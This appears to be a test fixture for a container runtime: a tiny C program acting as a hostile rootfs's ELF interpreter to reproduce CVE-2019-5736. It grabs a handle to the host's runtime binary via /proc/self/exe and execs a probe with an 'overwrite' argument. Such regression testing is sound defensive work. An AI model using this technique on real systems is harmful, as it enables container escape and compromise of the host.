// A hostile rootfs brings its own ELF interpreter: `run /proc/self/exe` then starts it, with the host's node as its
// /proc/self/exe. It keeps that open and becomes the probe. (CVE-2019-5736)
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

void _start(void) {
  const long node = syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", O_RDONLY);
  syscall(SYS_dup3, node, 9, 0);
  char *argv[] = {"probe", "overwrite", 0};
  syscall(SYS_execve, "/probe", argv, 0);
  syscall(SYS_exit, 1);
}
